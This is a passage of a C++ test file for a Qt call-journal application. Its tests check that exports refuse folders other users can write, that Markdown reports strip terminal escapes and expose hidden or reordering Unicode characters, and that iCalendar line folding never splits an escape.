        CHECK_FALSE(writePrivateFile(shared + QStringLiteral("/report.md"), "x", &error));
        CHECK(error.contains(QStringLiteral("other users can write")));
        REQUIRE(::chown(QFile::encodeName(shared).constData(), ::geteuid(), ::getegid()) == 0);
        CHECK(writePrivateFile(shared + QStringLiteral("/report.md"), "x", &error));
    }
}

TEST_CASE("The Markdown report drops terminal escapes and names the characters that hide or reorder text "
          "(review L3)",
          "[export][markdown][security]")
{
    Fixture f;
    REQUIRE(f.journal
                ->addNote(f.ids.polishCall,
                          QStringLiteral("Opłata \u202E0.001 zł\u202C, \u001b[31mczerwone\u001b[0m, zero\u200Bwidth"))
                .ok);
    REQUIRE(f.journal->flushPending().ok);
    const QString md = QString::fromUtf8(callReportMarkdown(report(*f.journal)));
    CHECK_FALSE(md.contains(QChar(0x1B)));
    CHECK_FALSE(md.contains(QChar(0x202E)));
    CHECK_FALSE(md.contains(QChar(0x200B)));
    CHECK(md.contains(QStringLiteral("Opłata \\<U+202E>0.001 zł\\<U+202C>, [31mczerwone[0m, zero\\<U+200B>width")));
}

TEST_CASE("iCalendar folding never splits an escape (review I1)", "[export][ics][security]")
{
    Fixture f;
    // Commas and line breaks at every position, so that some escape meets every fold.
    QString text;
    for (int i = 0; i < 60; ++i)
        text += QString(i % 7, QLatin1Char('x')) + (i % 2 ? QStringLiteral(",") : QStringLiteral("\n"));
    REQUIRE(f.journal->addPromise(f.ids.polishCall, text, QStringLiteral("ZG-1"), QDateTime()).ok);
    REQUIRE(f.journal->flushPending().ok);
    const QByteArray ics = promisesICalendar(promises(*f.journal, false));
    const QList<QByteArray> physical = ics.split('\n');
    for (const QByteArray &line : physical) {
        const QByteArray content = line.endsWith('\r') ? line.chopped(1) : line;
        qsizetype run = 0;
        for (qsizetype i = content.size() - 1; i >= 0 && content.at(i) == '\\'; --i)
            ++run;
        INFO(content.toStdString());
        CHECK(run % 2 == 0); // no line ends inside an escape
    }
}
